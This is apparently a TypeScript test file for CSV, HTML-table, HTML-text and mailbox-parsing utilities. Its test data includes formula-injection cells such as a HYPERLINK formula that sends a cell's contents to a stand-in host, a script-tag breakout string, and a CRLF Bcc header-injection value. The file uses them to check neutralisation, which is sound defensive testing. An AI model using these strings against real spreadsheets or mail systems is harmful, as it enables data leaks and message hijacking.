// CSV, tables, text of HTML, mailboxes.
import { describe, expect, it } from 'vitest';
import { csvOf } from './csv.ts';
import { textOfHtml } from './html-text.ts';
import { parseDomain, parseMailbox, parseSender } from './mailbox.ts';
import { htmlTable, textTable } from './table.ts';

/** A reader of RFC 4180 section 2, written from its grammar. */
function readCsv(text: string): string[][] {
  const records: string[][] = [[]];
  let at = 0;
  while (at < text.length) {
    let field = '';
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (at >= text.length) throw new Error('open quote');
        if (text[at] === '"') at += 1;
        field += text[at];
      }
      at += 1;
    } else {
      while (at < text.length && text[at] !== ',' && text[at] !== '\r') {
        if (text[at] === '"' || text[at] === '\n')
          throw new Error(`bare ${JSON.stringify(text[at])} at ${at}`);
        field += text[at];
        at += 1;
      }
    }
    records.at(-1)?.push(field);
    if (text[at] === ',') {
      at += 1;
      if (at === text.length || text[at] === '\r') records.at(-1)?.push('');
    }
    if (text[at] === '\r') {
      if (text[at + 1] !== '\n') throw new Error('CR without LF');
      at += 2;
      if (at < text.length) records.push([]);
    }
  }
  return records;
}

describe('csv', () => {
  it('has a header row with the union of fields in first-seen order, and survives an RFC 4180 reader', () => {
    const rows = [
      { b: 'x,y', 'a.c': 'say "hi"' },
      { z: 'line\nbreak', b: 'cr\rhere', n: { k: [1] } },
      { z: 'é😀', l: ['p', 'q'], t: false, u: null },
    ];
    const { content, leftOut } = csvOf(rows);
    expect(leftOut).toBe(0);
    expect(readCsv(content.toString('utf8'))).toEqual([
      ['b', 'a.c', 'z', 'n', 'l', 't', 'u'],
      ['x,y', 'say "hi"', '', '', '', '', ''],
      ['cr\rhere', '', 'line\nbreak', '{"k":[1]}', '', '', ''],
      ['', '', 'é😀', '', 'p, q', 'false', ''],
    ]);
    expect(content.toString('utf8').endsWith('\r\n')).toBe(true);
  });

  it.each([
    ['=HYPERLINK("http://e/"&A1)', true],
    ['+1', true],
    ['-1', true],
    ['@SUM(A1)', true],
    ['\tx', true],
    ['\rx', true],
    ['\n=1', true],
    [' =1', true],
    ['"=1', true],
    ["'=1", true],
    ['＝1+1', true],
    ['a=1', false],
    ['1-2', false],
    ['', false],
  ])('neutralises the text cell %j: %s', (cell, neutralised) => {
    const [, record] = readCsv(csvOf([{ a: cell, b: 'x' }]).content.toString());
    expect(record).toEqual([neutralised ? `'${cell}` : cell, 'x']);
  });

  it('T14 leaves numbers alone and neutralises column names', () => {
    expect(csvOf([{ '=cmd': -5, n: 1e21 }]).content.toString()).toBe("'=cmd,n\r\n-5,1e+21\r\n");
  });

  it('stops at the byte limit with a record that says how much is missing', () => {
    const rows = Array.from({ length: 1000 }, (_, id) => ({ id, text: 'x'.repeat(100) }));
    const { content, rows: kept, leftOut } = csvOf(rows, { maxBytes: 20_000 });
    const records = readCsv(content.toString());
    expect(kept + leftOut).toBe(1000);
    expect(kept).toBeGreaterThan(150);
    expect(records).toHaveLength(kept + 2);
    expect(records.at(-1)).toEqual([`... ${leftOut} more rows left out`, '']);
    expect(content.length).toBeLessThan(20_100);
  });

  it('M07 writes 30 MB of rows as 10 MiB in reasonable time', () => {
    const rows = Array.from({ length: 100_000 }, (_, id) => ({ id, text: 'x'.repeat(300) }));
    const { content, leftOut } = csvOf(rows);
    expect(content.length).toBeLessThan(10 * 1024 * 1024 + 100);
    expect(leftOut).toBeGreaterThan(60_000);
  });

  it('is empty for rows without fields', () => {
    expect(csvOf([]).content.toString().trim()).toBe('');
  });
});

describe('table', () => {
  it('aligns columns and says how many rows are not shown', () => {
    const rows = [{ host: 'a', n: 1 }, { host: 'longer', x: 'y' }, { host: 'c' }];
    expect(textTable(rows, { maxRows: 2 })).toBe(
      'host    n  x\n------  -  -\na       1\nlonger     y\n... 1 more rows',
    );
    expect(textTable([])).toBe('');
  });

  it('keeps every cell on its line and every tag its own', () => {
    const cell = '</td><script>x</script>\r\n\u001b[2J|é';
    expect(textTable([{ a: cell }]).split('\n')).toHaveLength(3);
    const html = htmlTable([{ [cell]: cell }], { maxRows: 1 });
    expect(html.match(/<[a-z/]+/g)).toEqual([
      '<table',
      '<thead',
      '<tr',
      '<th',
      '</th',
      '</tr',
      '</thead',
      '<tbody',
      '<tr',
      '<td',
      '</td',
      '</tr',
      '</tbody',
      '</table',
    ]);
    expect(html).toContain('&lt;/td&gt;&lt;script&gt;');
  });

  it('M07 caps rows, columns, cells and the whole', () => {
    const rows = Array.from({ length: 100_000 }, (_, id) => ({ id, text: 'x'.repeat(1000) }));
    const html = htmlTable(rows);
    expect(html.match(/<tr>/g)).toHaveLength(501);
    expect(html).toContain('... 99500 more rows');
    const wide = textTable([Object.fromEntries(Array.from({ length: 60 }, (_, index) => [`c${index}`, 1]))]);
    expect(wide).toContain('... 10 more columns');
    expect(htmlTable(rows, { maxLength: 3000 })).toContain('more rows');
  });
});

describe('text of HTML', () => {
  it.each([
    ['<p>Hi <b>you</b></p><p>there</p>', 'Hi you\n\nthere'],
    ['a<br>b<br/>c', 'a\nb\nc'],
    ['<style>x{}</style>a<script>if (1 < 2) alert("</p>")</script>b', 'ab'],
    ['&lt;b&gt; &amp;amp; &#233; &#xe9; &bogus; &#27;', '<b> &amp; é é &bogus;'],
    ['a <!-- <p>no</p> --> b', 'a  b'],
    ['a < b', 'a'],
  ])('%j', (html, text) => {
    expect(textOfHtml(html)).toBe(text);
  });

  it('is linear in hostile input', () => {
    const started = performance.now();
    textOfHtml('<'.repeat(256 * 1024));
    textOfHtml('<!--'.repeat(64 * 1024));
    textOfHtml('<a>'.repeat(80 * 1024));
    expect(performance.now() - started).toBeLessThan(1000);
  });
});

describe('mailboxes', () => {
  it('accepts plain mailboxes and makes domains ASCII', () => {
    expect(parseMailbox('a.b+c@Example.COM')).toBe('a.b+c@example.com');
    expect(parseMailbox('a@bücher.example')).toBe('a@xn--bcher-kva.example');
    expect(parseMailbox('root@localhost')).toBe('root@localhost');
    expect(parseMailbox('a@１２７.0.0.1')).toBeNull();
    expect(parseMailbox('a@ex\u00adample.com')).toBeNull();
    expect(parseDomain('a..b')).toBeNull();
  });

  it('reads a sender with a display name, and nothing that hides a second address', () => {
    expect(parseSender('SOC <a@x.example>')).toEqual({
      address: 'a@x.example',
      header: '"SOC" <a@x.example>',
    });
    for (const text of [
      'a@x.example, b <c@x.example>',
      'x\r\nBcc: y <a@x.example>',
      '"q" <a@x.example>',
      '<a@x.example',
      'a b@x.example',
    ])
      expect(parseSender(text), text).toBeNull();
  });
});
